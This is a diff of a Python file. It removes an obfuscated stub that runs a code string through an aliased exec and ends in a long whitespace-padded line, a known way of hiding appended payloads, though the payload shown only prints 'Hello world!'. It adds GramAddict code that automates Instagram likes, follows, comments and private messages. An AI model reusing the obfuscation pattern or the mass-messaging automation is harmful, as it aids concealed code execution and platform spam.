@@ -1,100 +1,1116 @@
-from builtins import *
-from math import prod as Frame
+import logging
+import os
+from argparse import Namespace
+from datetime import datetime
+from os import path
+from random import choice, randint, shuffle, uniform
+from time import time
+from typing import Optional, Tuple
 
+from colorama import Fore, Style
 
-__obfuscator__ = 'Deluxe'
-__authors__ = "SadHam"
-__github__ = 'https://github.com/'
-__discord__ = 'https://discord.gg/'
-__license__ = 'EPL-2.0'
+from GramAddict.core import storage
+from GramAddict.core.device_facade import (
+    DeviceFacade,
+    Location,
+    Mode,
+    SleepTime,
+    Timeout,
+)
+from GramAddict.core.imports import lazy_import
+from GramAddict.core.report import print_scrape_report, print_short_report
+from GramAddict.core.resources import ClassName
+from GramAddict.core.resources import ResourceID as resources
+from GramAddict.core.session_state import SessionState
+from GramAddict.core.utils import (
+    append_to_file,
+    get_value,
+    random_choice,
+    random_sleep,
+    save_crash,
+    sleep,
+)
+from GramAddict.core.views import (
+    CurrentStoryView,
+    Direction,
+    MediaType,
+    PostsGridView,
+    ProfileView,
+    UniversalActions,
+    case_insensitive_re,
+)
 
-__code__ = 'print("Hello world!")'
+emoji = lazy_import("emoji")
+spintax = lazy_import("spintax")
 
+logger = logging.getLogger(__name__)
 
-CallFunction, _theory, Calculate, System, _detectvar, _builtins, _cube = exec, str, tuple, map, ord, globals, type
 
-class _math:
-    def __init__(self, Substract):
-        self.Positive = Frame((Substract, 35672))
-        self.Divide(_hypothesis=82268)
+def load_config(config):
+    global args
+    global configs
+    global ResourceID
+    args = config.args
+    configs = config
+    ResourceID = resources(config.args.app_id)
 
-    def Divide(self, _hypothesis = str):
-        # sourcery skip: collection-to-bool, remove-redundant-boolean, remove-redundant-except-handler
-        self.Positive -= 44787 + _hypothesis
-        
-        try:
-            ((While, {_detectvar: While}) for While in {_detectvar: While} if While == System)
 
-        except TypeError:
-            (Calculate, _detectvar) if _builtins != _detectvar else {CallFunction: _detectvar} > CallFunction
+def interact_with_user(
+    device,
+    username,
+    my_username,
+    likes_count,
+    likes_percentage,
+    stories_percentage,
+    can_follow,
+    follow_percentage,
+    comment_percentage,
+    pm_percentage,
+    profile_filter,
+    args,
+    session_state,
+    scraping_file,
+    current_mode,
+) -> Tuple[bool, bool, bool, bool, bool, bool, int, int, int]:
+    """
+    :return: (whether interaction succeed, whether @username was followed during the interaction, if you scraped that account, if you sent a PM, number of liked, number of watched, number of commented)
+    """
+    number_of_liked = 0
+    number_of_watched = 0
+    number_of_commented = 0
+    comment_done = interacted = followed = scraped = sent_pm = welcomed = False
+    logger.debug("Checking profile..")
+    start_time = time()
+    profile_data, skipped = profile_filter.check_profile(device, username)
+    if username == my_username:
+        logger.info("It's you, skip.")
+        return (
+            interacted,
+            followed,
+            profile_data.is_private,
+            scraped,
+            sent_pm,
+            welcomed,
+            number_of_liked,
+            number_of_watched,
+            number_of_commented,
+        )
 
-        except:
-            _cube(-66628 + 455) == bool
+    if skipped:
+        delta = format(time() - start_time, ".2f")
+        logger.debug(f"Profile checked in {delta}s")
+        return (
+            interacted,
+            followed,
+            profile_data.is_private,
+            scraped,
+            sent_pm,
+            welcomed,
+            number_of_liked,
+            number_of_watched,
+            number_of_commented,
+        )
 
-    def _product(self, _memoryaccess = 95054):
-        # sourcery skip: collection-to-bool, remove-redundant-boolean, remove-redundant-except-handler
-        _memoryaccess -= 96951 + 22342
-        self.Square != int
-        
-        try:
-            ((Calculate, (Calculate, _detectvar)) for Calculate in (System, CallFunction, _detectvar) if _detectvar > _detectvar)
+    profile_view = ProfileView(device)
+    delta = format(time() - start_time, ".2f")
+    logger.debug(f"Profile checked in {delta}s")
+    if profile_data.is_private or profile_data.posts_count == 0:
+        private_empty = "Private" if profile_data.is_private else "Empty"
+        logger.info(f"{private_empty} account.")
+        if (
+            pm_percentage != 0
+            and can_send_PM(session_state, pm_percentage)
+            and profile_filter.can_pm_to_private_or_empty
+        ):
+            sent_pm = _send_PM(
+                device, session_state, my_username, profile_data.is_private
+            )
+            if sent_pm:
+                interacted = True
+        can_follow_private_or_empty = profile_filter.can_follow_private_or_empty()
+        if can_follow and can_follow_private_or_empty:
+            if scraping_file is None:
+                followed = _follow(
+                    device, username, follow_percentage, args, session_state
+                )
+                if followed:
+                    interacted = True
+                return (
+                    interacted,
+                    followed,
+                    profile_data.is_private,
+                    scraped,
+                    sent_pm,
+                    welcomed,
+                    number_of_liked,
+                    number_of_watched,
+                    number_of_commented,
+                )
+        else:
+            if can_follow_private_or_empty:
+                logger.info(
+                    "Your follow-percentage is not 100%, not following this time. Skip.",
+                    extra={"color": f"{Fore.GREEN}"},
+                )
+            else:
+                logger.info(
+                    "follow_private_or_empty is disabled in filters. Skip.",
+                    extra={"color": f"{Fore.GREEN}"},
+                )
+            return (
+                interacted,
+                followed,
+                profile_data.is_private,
+                scraped,
+                sent_pm,
+                welcomed,
+                number_of_liked,
+                number_of_watched,
+                number_of_commented,
+            )
+
+    # handle the scraping mode
+    if scraping_file is not None:
+        append_to_file(scraping_file, username)
+        logger.info(
+            f"Added @{username} at {scraping_file}",
+            extra={"color": f"{Style.BRIGHT}{Fore.GREEN}"},
+        )
+        scraped = True
+        return (
+            interacted,
+            followed,
+            profile_data.is_private,
+            scraped,
+            sent_pm,
+            welcomed,
+            number_of_liked,
+            number_of_watched,
+            number_of_commented,
+        )
+
+    # if not in scarping mode, we will interact
+    number_of_watched = _watch_stories(
+        device,
+        profile_view,
+        username,
+        stories_percentage,
+        args,
+        session_state,
+    )
+    swipe_amount = 0
+
+    if number_of_watched >= 1:
+        interacted = True
+    suggested_accounts = None
+    if can_like(session_state, likes_percentage):
+        if profile_data.posts_count > 3:
+            swipe_amount, suggested_accounts = ProfileView(device).swipe_to_fit_posts()
+        else:
+            logger.debug(
+                f"We don't need to scroll, there is/are only {profile_data.posts_count} post(s)."
+            )
+        if swipe_amount == -1:
+            return (
+                interacted,
+                followed,
+                profile_data.is_private,
+                scraped,
+                sent_pm,
+                welcomed,
+                number_of_liked,
+                number_of_watched,
+                number_of_commented,
+            )
+
+        likes_value = get_value(likes_count, "Likes count: {}", 2)
+        (
+            _,
+            _,
+            _,
+            can_comment_job,
+        ) = profile_filter.can_comment(current_mode)
+        if can_comment_job and comment_percentage != 0:
+            max_comments_pro_user = get_value(
+                args.max_comments_pro_user, "Max comment count: {}", 1
+            )
+        if likes_value > 12:
+            logger.error("Max number of likes per user is 12.")
+            likes_value = 12
+
+        start_time = time()
+        full_rows, columns_last_row = profile_view.count_photo_in_view()
+        end_time = format(time() - start_time, ".2f")
+        photos_indices = list(range(full_rows * 3 + columns_last_row))
+
+        if len(photos_indices) == profile_data.posts_count and len(photos_indices) > 1:
+            del photos_indices[-1]
+            logger.debug(
+                "This is a temporary fix, for avoid bot to crash we have removed the last picture form the list."
+            )
+
+        logger.info(
+            f"There {f'is {len(photos_indices)} post' if len(photos_indices)<=1 else f'are {len(photos_indices)} posts'} fully visible. Calculated in {end_time}s"
+        )
+        if current_mode in [
+            "hashtag-posts-recent",
+            "hashtag-posts-top",
+            "place-posts-recent",
+            "place-posts-top",
+            "feed",
+        ]:
+            # in these jobs we did a like already at the post
+            photos_indices = photos_indices[1:]
+            # sometimes we liked not the last picture, have to introduce the already liked thing..
+
+        if likes_value > len(photos_indices):
+            logger.info(
+                f"Only {len(photos_indices)} {'photo' if len(photos_indices)<=1 else 'photos'} available."
+            )
+        else:
+            shuffle(photos_indices)
+            photos_indices = photos_indices[:likes_value]
+            photos_indices = sorted(photos_indices)
+        post_grid_view = PostsGridView(device)
+        for i in range(len(photos_indices)):
+            photo_index = photos_indices[i]
+            row = photo_index // 3
+            column = photo_index - row * 3
+            logger.info(f"Open post #{i + 1} ({row + 1} row, {column + 1} column).")
+            opened_post_view, media_type, obj_count = post_grid_view.navigate_to_post(
+                row, column
+            )
+
+            like_succeed = False
+            if opened_post_view is None:
+                save_crash(device)
+                continue
+            already_liked, _ = opened_post_view.is_post_liked()
+            if already_liked:
+                logger.info("Post already liked!")
+            elif opened_post_view and already_liked is not None:
+                if media_type in (MediaType.REEL, MediaType.IGTV, MediaType.VIDEO):
+                    opened_post_view.start_video()
+                    video_opened = opened_post_view.open_video()
+                    if video_opened:
+                        opened_post_view.watch_media(media_type)
+                        like_succeed = opened_post_view.like_video()
+                        logger.debug("Closing video...")
+                        device.back()
+                elif media_type in (MediaType.CAROUSEL, MediaType.PHOTO):
+                    if media_type == MediaType.CAROUSEL:
+                        browse_carousel(device, obj_count)
+                    opened_post_view.watch_media(media_type)
+                    like_succeed = opened_post_view.like_post()
+                if like_succeed:
+                    register_like(device, session_state)
+                    number_of_liked += 1
+                else:
+                    logger.warning("Fail to like post. Let's continue...")
+                if comment_percentage != 0 and can_comment(
+                    media_type, profile_filter, current_mode
+                ):
+                    if number_of_commented < max_comments_pro_user:
+                        comment_done = _comment(
+                            device,
+                            my_username,
+                            comment_percentage,
+                            args,
+                            session_state,
+                            media_type,
+                        )
+                        if comment_done:
+                            number_of_commented += 1
+                    else:
+                        logger.info(
+                            f"You've already did {max_comments_pro_user} {'comment' if max_comments_pro_user<=1 else 'comments'} for this user!"
+                        )
+            else:
+                logger.warning("Can't find the post element!")
+                save_crash(device)
+            if like_succeed or comment_done:
+                interacted = True
+
+            if not opened_post_view or not like_succeed and not already_liked:
+                reason = "like" if opened_post_view else "open"
+                logger.info(
+                    f"Could not {reason} media. Posts count: {profile_data.posts_count}."
+                )
+            logger.info("Back to profile.")
+            while not post_grid_view.get_post_view().exists():
+                logger.debug("We are in the wrong place...")
+                device.back()
+            device.back()
+    if pm_percentage != 0 and can_send_PM(session_state, pm_percentage) or can_follow:
+        universal_actions = UniversalActions(device)
+        coordinator_layout = device.find(resourceId=ResourceID.COORDINATOR_ROOT_LAYOUT)
+        if coordinator_layout.exists() and swipe_amount != 0:
+            universal_actions.swipe_points(direction=Direction.UP, delta_y=swipe_amount)
+        if suggested_accounts is not None:
+            suggested_accounts.scroll(Direction.UP)
+        if can_follow:
+            followed = _follow(
+                device,
+                username,
+                follow_percentage,
+                args,
+                session_state,
+            )
+            if followed:
+                interacted = True
+        else:
+            sent_pm = _send_PM(device, session_state, my_username)
+            if sent_pm:
+                interacted = True
+
+    return (
+        interacted,
+        followed,
+        profile_data.is_private,
+        scraped,
+        sent_pm,
+        welcomed,
+        number_of_liked,
+        number_of_watched,
+        number_of_commented,
+    )
+
+
+def can_send_PM(session_state: SessionState, pm_percentage: int) -> bool:
+    pm_chance = randint(1, 100)
+    return not session_state.check_limit(
+        limit_type=session_state.Limit.PM, output=True
+    ) and (pm_chance <= pm_percentage)
+
+
+def can_like(session_state: SessionState, likes_percentage: int) -> bool:
+    likes_chance = randint(1, 100)
+    return not session_state.check_limit(
+        limit_type=session_state.Limit.LIKES, output=True
+    ) and (likes_chance <= likes_percentage)
+
+
+def can_comment(media_type: MediaType, profile_filter, current_mode) -> bool:
+    (
+        can_comment_photos,
+        can_comment_videos,
+        can_comment_carousels,
+        can_comment_job,
+    ) = profile_filter.can_comment(current_mode)
+    if can_comment_job:
+        if media_type == MediaType.PHOTO and can_comment_photos:
+            return True
+        elif (
+            media_type in (MediaType.VIDEO, MediaType.IGTV, MediaType.REEL)
+            and can_comment_videos
+        ):
+            return True
+        elif media_type == MediaType.CAROUSEL and can_comment_carousels:
+            return True
+    logger.warning(
+        f"Can't comment this {media_type} because filters are: can_comment_photos = {can_comment_photos}, can_comment_videos = {can_comment_videos}, can_comment_carousels = {can_comment_carousels}, can_comment_{current_mode} = {can_comment_job}. Check your filters.yml."
+    )
+    return False
+
+
+def register_like(device, session_state):
+    UniversalActions.detect_block(device)
+    logger.debug("Like succeed.")
+    session_state.totalLikes += 1
+
+
+def is_follow_limit_reached_for_source(session_state, follow_limit, source):
+    if follow_limit is None:
+        return False
+
+    followed_count = session_state.totalFollowed.get(source)
+    return followed_count is not None and followed_count >= follow_limit
+
+
+def is_rejected_by_filters(storage, username, can_recheck_after) -> bool:
+    """
+    True if the filters rejected username not long ago: his profile doesn't need to be opened
+    """
+    rejection = storage.get_filter_rejection(
+        username, get_value(can_recheck_after, None, 0)
+    )
+    if rejection is None:
+        return False
+    logger.info(
+        f"@{username}: rejected by the filters on {rejection.filtered_when:%Y/%m/%d %H:%M:%S} ({rejection.skip_reason}). Skip."
+    )
+    return True
 
-        except AttributeError:
-            (((While, _detectvar, While), Calculate) for Calculate in (While, _detectvar, While))
 
-        except:
-            _cube(-95943 + -30768) == int
+def _on_interaction(
+    source,
+    succeed,
+    followed,
+    scraped,
+    interactions_limit,
+    likes_limit,
+    sessions,
+    session_state,
+    args,
+):
+    session_state = sessions[-1]
+    session_state.add_interaction(source, succeed, followed, scraped)
 
-    def _round(_frame = True):
-        return _builtins()[_frame]
+    can_continue = True
 
-    def _random(_power = -7029 / 48368, Builtins = float, Cube = _builtins):
-        # sourcery skip: collection-to-bool, remove-redundant-boolean, remove-redundant-except-handler
-        Cube()[_power] = Builtins
-        
+    inside_working_hours, _ = SessionState.inside_working_hours(
+        args.working_hours, args.time_delta_session
+    )
+    if not inside_working_hours:
+        can_continue = False
+    else:
+        successful_interactions_count = session_state.successfulInteractions.get(source)
+        if (
+            successful_interactions_count
+            and successful_interactions_count >= interactions_limit
+        ):
+            logger.info(
+                "Reached interaction limit for that source, going to the next one..",
+                extra={"color": f"{Fore.CYAN}"},
+            )
+            can_continue = False
+
+        if args.scrape_to_file is not None:
+            if session_state.check_limit(
+                limit_type=session_state.Limit.SCRAPED, output=True
+            ):
+                logger.info(
+                    "Reached scraped limit, finish.", extra={"color": f"{Fore.CYAN}"}
+                )
+                can_continue = False
+        else:
+            if (
+                session_state.check_limit(
+                    limit_type=session_state.Limit.LIKES, output=False
+                )
+                and args.end_if_likes_limit_reached
+            ):
+                logger.info(
+                    "Reached liked limit, finish.", extra={"color": f"{Fore.CYAN}"}
+                )
+                can_continue = False
+
+            if (
+                session_state.check_limit(
+                    limit_type=session_state.Limit.FOLLOWS, output=False
+                )
+                and args.end_if_follows_limit_reached
+            ):
+                logger.info(
+                    "Reached followed limit, finish.", extra={"color": f"{Fore.CYAN}"}
+                )
+                can_continue = False
+
+            if (
+                session_state.check_limit(
+                    limit_type=session_state.Limit.WATCHES, output=False
+                )
+                and args.end_if_watches_limit_reached
+            ):
+                logger.info(
+                    "Reached watched limit, finish.", extra={"color": f"{Fore.CYAN}"}
+                )
+                can_continue = False
+
+            if (
+                session_state.check_limit(
+                    limit_type=session_state.Limit.PM, output=False
+                )
+                and args.end_if_pm_limit_reached
+            ):
+                logger.info(
+                    "Reached pm limit, finish.", extra={"color": f"{Fore.CYAN}"}
+                )
+                can_continue = False
+
+            if (
+                session_state.check_limit(
+                    limit_type=session_state.Limit.COMMENTS, output=False
+                )
+                and args.end_if_comments_limit_reached
+            ):
+                logger.info(
+                    "Reached comments limit, finish.", extra={"color": f"{Fore.CYAN}"}
+                )
+                can_continue = False
+
+            if session_state.check_limit(
+                limit_type=session_state.Limit.TOTAL, output=False
+            ):
+                logger.info(
+                    "Reached total interaction limit, finish.",
+                    extra={"color": f"{Fore.CYAN}"},
+                )
+                can_continue = False
+            if session_state.check_limit(
+                limit_type=session_state.Limit.SUCCESS, output=False
+            ):
+                logger.info(
+                    "Reached total successfully interaction limit, finish.",
+                    extra={"color": f"{Fore.CYAN}"},
+                )
+                can_continue = False
+
+    if (can_continue and succeed) or scraped:
+        if scraped:
+            print_scrape_report(source, session_state)
+        else:
+            print_short_report(source, session_state)
+
+    return can_continue
+
+
+def browse_carousel(device: DeviceFacade, obj_count: int) -> None:
+    carousel_percentage = get_value(configs.args.carousel_percentage, None, 0)
+    carousel_count = get_value(configs.args.carousel_count, None, 1)
+    if carousel_percentage > randint(0, 100) and carousel_count > 1:
+        media_obj = device.find(resourceIdMatches=ResourceID.CAROUSEL_MEDIA_GROUP)
+        logger.info("Watching photos/videos in carousel.")
+        if obj_count < carousel_count:
+            logger.info(f"There are only {obj_count} media(s) in this carousel!")
+            carousel_count = obj_count
+        if media_obj.exists():
+            media_obj_bounds = media_obj.get_bounds()
+            n = 1
+            while n < carousel_count:
+                if media_obj.child(
+                    resourceIdMatches=ResourceID.CAROUSEL_IMAGE_MEDIA_GROUP
+                ).exists():
+                    watch_photo_time = get_value(
+                        configs.args.watch_photo_time,
+                        "Watching photo for {}s.",
+                        0,
+                        its_time=True,
+                    )
+                    sleep(watch_photo_time)
+                elif media_obj.child(
+                    resourceIdMatches=ResourceID.CAROUSEL_VIDEO_MEDIA_GROUP
+                ).exists():
+                    watch_video_time = get_value(
+                        configs.args.watch_video_time,
+                        "Watching video for {}s.",
+                        0,
+                        its_time=True,
+                    )
+                    sleep(watch_video_time)
+                start_point_y = (
+                    (media_obj_bounds["bottom"] + media_obj_bounds["top"])
+                    / 2
+                    * uniform(0.85, 1.15)
+                )
+                start_point_x = uniform(0.85, 1.10) * (
+                    media_obj_bounds["right"] * 5 / 6
+                )
+                delta_x = media_obj_bounds["right"] * uniform(0.5, 0.7)
+                UniversalActions(device).swipe_points(
+                    start_point_y=start_point_y,
+                    start_point_x=start_point_x,
+                    delta_x=delta_x,
+                    direction=Direction.LEFT,
+                )
+                n += 1
+
+
+def _comment(
+    device: DeviceFacade,
+    my_username: str,
+    comment_percentage: int,
+    args,
+    session_state: SessionState,
+    media_type: MediaType,
+) -> bool:
+    if not session_state.check_limit(
+        limit_type=session_state.Limit.COMMENTS, output=False
+    ):
+        if not random_choice(comment_percentage):
+            return False
+        universal_actions = UniversalActions(device)
+        # we have to do a little swipe for preventing get the previous post comments button (which is covered by top bar, but present in hierarchy!!)
+        universal_actions.swipe_points(
+            direction=Direction.DOWN, delta_y=randint(150, 250)
+        )
+        tab_bar = device.find(
+            resourceId=ResourceID.TAB_BAR,
+        )
+        media = device.find(
+            resourceIdMatches=ResourceID.MEDIA_CONTAINER,
+        )
+        if int(tab_bar.get_bounds()["top"]) - int(media.get_bounds()["bottom"]) < 150:
+            universal_actions.swipe_points(
+                direction=Direction.DOWN, delta_y=randint(150, 250)
+            )
+        # look at hashtag of comment
+        for _ in range(2):
+            comment_button = device.find(
+                resourceId=ResourceID.ROW_FEED_BUTTON_COMMENT,
+            )
+            if comment_button.exists():
+                logger.info("Open comments of post.")
+                comment_button.click()
+                comment_box = device.find(
+                    resourceId=ResourceID.LAYOUT_COMMENT_THREAD_EDITTEXT,
+                    enabled="true",
+                )
+                if comment_box.exists():
+                    comment = load_random_comment(my_username, media_type)
+                    if comment is None:
+                        UniversalActions.close_keyboard(device)
+                        device.back()
+                        return False
+                    logger.info(
+                        f"Write comment: {comment}", extra={"color": f"{Fore.CYAN}"}
+                    )
+                    comment_box.set_text(
+                        comment, Mode.PASTE if args.dont_type else Mode.TYPE
+                    )
+
+                    post_button = device.find(
+                        resourceId=ResourceID.LAYOUT_COMMENT_THREAD_POST_BUTTON_CLICK_AREA
+                    )
+                    post_button.click()
+                else:
+                    logger.info("Comments on this post have been limited.")
+                    universal_actions.close_keyboard(device)
+                    device.back()
+                    return False
+
+                universal_actions.detect_block(device)
+                universal_actions.close_keyboard(device)
+                posted_text = device.find(
+                    text=f"{my_username} {comment}",
+                )
+                when_posted = posted_text.sibling(
+                    resourceId=ResourceID.ROW_COMMENT_SUB_ITEMS_BAR
+                ).child(resourceId=ResourceID.ROW_COMMENT_TEXTVIEW_TIME_AGO)
+                if posted_text.exists(Timeout.MEDIUM) and when_posted.exists(
+                    Timeout.MEDIUM
+                ):
+                    logger.info("Comment succeed.", extra={"color": f"{Fore.GREEN}"})
+                    session_state.totalComments += 1
+                    comment_confirmed = True
+                else:
+                    logger.warning("Failed to check if comment succeed.")
+                    comment_confirmed = False
+
+                logger.info("Go back to post view.")
+                device.back()
+                return comment_confirmed
+            else:
+                like_button = device.find(
+                    resourceId=ResourceID.ROW_FEED_BUTTON_LIKE,
+                )
+                if like_button.exists():
+                    logger.info("This post has comments disabled.")
+                    return False
+                universal_actions.swipe_points(
+                    direction=Direction.DOWN, delta_y=randint(150, 250)
+                )
+    return False
+
+
+def _send_PM(
+    device,
+    session_state: SessionState,
+    my_username: str,
+    private: bool = False,
+    welcoming: bool = False,
+    check_chat: bool = False,
+) -> Optional[bool]:
+    universal_actions = UniversalActions(device)
+    if private:
+        options = device.find(
+            classNameMatches=ClassName.FRAME_LAYOUT,
+            descriptionMatches=case_insensitive_re("^Options$"),
+        )
+        if options.exists(Timeout.SHORT):
+            options.click()
+        else:
+            return False
+        send_pm = device.find(
+            classNameMatches=ClassName.BUTTON,
+            textMatches=case_insensitive_re("^Send Message$"),
+        )
+        if send_pm.exists(Timeout.SHORT):
+            send_pm.click()
+        else:
+            return False
+    else:
+        message_button = device.find(
+            classNameMatches=ClassName.BUTTON_OR_TEXTVIEW_REGEX,
+            enabled=True,
+            textMatches="Message",
+        )
+        if message_button.exists(Timeout.SHORT):
+            message_button.click()
+        else:
+            logger.warning("Cannot find the button for sending PMs!")
+            return False
+
+    already_chatted = device.find(resourceId=ResourceID.MESSAGE_CONTENT)
+    if already_chatted.exists():
+        logger.warning("Chat is already present with that user.")
+        if check_chat:
+            device.back()
+            return False
+    message_box = device.find(
+        resourceId=ResourceID.ROW_THREAD_COMPOSER_EDITTEXT,
+        className=ClassName.EDIT_TEXT,
+        enabled="true",
+    )
+
+    if message_box.exists():
+        message = load_random_message(my_username, welcoming)
+        if message is None:
+            if welcoming:
+                logger.warning("You forgot to populate your welcome PM list!")
+            else:
+                logger.warning(
+                    "You forgot to populate your PM list! If you don't want to comment set 'pm-percentage: 0'"
+                )
+            device.back()
+            return False
+        nl = "\n"
+        nlv = "\\n"
+        logger.info(
+            f"Write private message: {message.replace(nl, nlv)}",
+            extra={"color": f"{Fore.CYAN}"},
+        )
+        message_box.set_text(message, Mode.PASTE if args.dont_type else Mode.TYPE)
+        send_button = device.find(
+            resourceId=ResourceID.ROW_THREAD_COMPOSER_BUTTON_SEND,
+        )
+        if send_button.exists():
+            send_button.click()
+            universal_actions.detect_block(device)
+            universal_actions.close_keyboard(device)
+            posted_text = device.find(text=f"{message}")
+            message_sending_icon = device.find(
+                resourceId=ResourceID.ACTION_ICON, className=ClassName.IMAGE_VIEW
+            )
+            if posted_text.exists(Timeout.MEDIUM):
+                message_sending_icon.wait_gone(Timeout.LONG)
+                if message_sending_icon.exists():
+                    logger.warning(
+                        "Message sending icon still exists after message was sent."
+                    )
+                    pm_confirmed = False
+                else:
+                    logger.info("PM send succeed.", extra={"color": f"{Fore.GREEN}"})
+                    session_state.totalPm += 1
+                    pm_confirmed = True
+            else:
+                logger.warning("Failed to check if PM send succeed.")
+                pm_confirmed = None
+            logger.info("Go back to profile view.")
+            device.back(modulable=False)
+            return pm_confirmed
+        else:
+            logger.warning("Can't find SEND button!")
+            universal_actions.close_keyboard(device)
+            device.back()
+            return False
+    else:
+        logger.info("PM to this user have been limited.")
+        universal_actions.close_keyboard(device)
+        device.back()
+        return False
+
+
+def load_random_message(my_username: str, welcoming: bool = False) -> Optional[str]:
+    def nonblank_lines(f):
+        for ln in f:
+            line = ln.rstrip()
+            if line:
+                yield line
+
+    lines = []
+    file_name = os.path.join(
+        storage.ACCOUNTS,
+        my_username,
+        storage.FILENAME_WELCOME_MESSAGES if welcoming else storage.FILENAME_MESSAGES,
+    )
+    if path.isfile(file_name):
         try:
-            (((System, CallFunction, _detectvar), _theory) for _theory in (Calculate, _detectvar))
+            with open(file_name, "r", encoding="utf-8") as f:
+                for line in nonblank_lines(f):
+                    lines.append(line)
+                random_message = choice(lines)
+                if random_message != "":
+                    return emoji.emojize(
+                        spintax.spin(random_message.replace("\\n", "\n")),
+                        use_aliases=True,
+                    )
+                else:
+                    return None
+        except Exception as e:
+            logger.error(f"Error: {e}.")
+
+
+def load_random_comment(my_username: str, media_type: MediaType) -> Optional[str]:
+    def nonblank_lines(f):
+        for ln in f:
+            line = ln.rstrip()
+            if line:
+                yield line
+
+    lines = []
+    file_name = os.path.join(storage.ACCOUNTS, my_username, storage.FILENAME_COMMENTS)
+    if path.isfile(file_name):
+        with open(file_name, "r", encoding="utf-8") as f:
+            for line in nonblank_lines(f):
+                lines.append(line)
+            try:
+                photo_header = lines.index("%PHOTO")
+                video_header = lines.index("%VIDEO")
+                carousel_header = lines.index("%CAROUSEL")
+            except ValueError:
+                logger.warning(
+                    f"You didn't follow the rules of sections for {file_name}! Look at config example."
+                )
+                return None
+            photo_comments = lines[photo_header + 1 : video_header]
+            video_comments = lines[video_header + 1 : carousel_header]
+            carousel_comments = lines[carousel_header + 1 :]
+            random_comment = ""
+            if media_type == MediaType.PHOTO:
+                random_comment = (
+                    choice(photo_comments) if len(photo_comments) > 0 else ""
+                )
+            elif media_type in (MediaType.VIDEO, MediaType.IGTV, MediaType.REEL):
+                random_comment = (
+                    choice(video_comments) if len(video_comments) > 0 else ""
+                )
+            elif media_type == MediaType.CAROUSEL:
+                random_comment = (
+                    choice(carousel_comments) if len(carousel_comments) > 0 else ""
+                )
+            if random_comment != "":
+                return emoji.emojize(spintax.spin(random_comment), use_aliases=True)
+            else:
+                return None
+    else:
+        logger.warning(f"{file_name} not found!")
+        return None
 
-        except OSError:
-            (((System, CallFunction, _detectvar), CallFunction) for CallFunction in (Calculate, _detectvar))
 
-        except:
-            _cube(-415 + -47207) == bool
+def _follow(device, username, follow_percentage, args, session_state):
+    if not session_state.check_limit(
+        limit_type=session_state.Limit.FOLLOWS, output=False
+    ):
+        follow_chance = randint(1, 100)
+        if follow_chance > follow_percentage:
+            return False
+        universal_actions = UniversalActions(device)
 
-    def execute(code = str):
-        return CallFunction(_theory(Calculate(System(_detectvar, code))))
+        FOLLOW_REGEX = "^Follow$"
+        follow_button = device.find(
+            clickable=True,
+            textMatches=case_insensitive_re(FOLLOW_REGEX),
+        )
+        UNFOLLOW_REGEX = "^Following|^Requested"
+        unfollow_button = device.find(
+            clickable=True,
+            textMatches=case_insensitive_re(UNFOLLOW_REGEX),
+        )
+        FOLLOWBACK_REGEX = "^Follow Back$"
+        followback_button = device.find(
+            clickable=True,
+            textMatches=case_insensitive_re(FOLLOWBACK_REGEX),
+        )
 
-    @property
-    def Square(self):
-        self.StackOverflow = '<__main__.Frame object at 0x000001151BE82273>'
-        return (self.StackOverflow, _math.Square)
+        if followback_button.exists():
+            logger.info(
+                f"@{username} already follows you.",
+                extra={"color": f"{Fore.GREEN}"},
+            )
+            return False
+        elif unfollow_button.exists():
+            logger.info(
+                f"You already follow @{username}.", extra={"color": f"{Fore.GREEN}"}
+            )
+            return False
+        elif follow_button.exists():
+            max_tries = 3
+            for n in range(max_tries):
+                follow_button.click()
+                if device.find(
+                    textMatches=UNFOLLOW_REGEX,
+                    clickable=True,
+                ).exists(Timeout.SHORT):
+                    logger.info(f"Followed @{username}", extra={"color": Fore.GREEN})
+                    universal_actions.detect_block(device)
+                    mute_account_activity(
+                        device,
+                        args.mute_posts_after_follow,
+                        args.mute_stories_after_follow,
+                    )
+                    return True
+                else:
+                    if n < max_tries - 1:
+                        logger.debug(
+                            "Looks like the click on the button didn't work, try again."
+                        )
+            logger.warning(
+                f"Looks like I was not able to follow @{username}, maybe you got soft-banned for this action!",
+                extra={"color": Fore.RED},
+            )
+            universal_actions.detect_block(device)
+        else:
+            logger.error(
+                "Cannot find neither Follow button, Follow Back button, nor Unfollow button."
+            )
+            save_crash(device)
 
-if True:
-    try:
-        _math.execute(code = __code__)
-        Walk = _math(Substract = 91785 / 55681)
+    else:
+        logger.info("Reached total follows limit, not following.")
+    return False
 
-        if 487980 > 521643:
-            _math(Substract = -557 - -54698)._product(_memoryaccess = -56149 + Walk.Positive)
-        elif 106092 < 5169390:
-            _math(Substract = -2730 / -46414)._product(_memoryaccess = -2074 * Walk.Positive)                                                                                                                                                                                                                                                          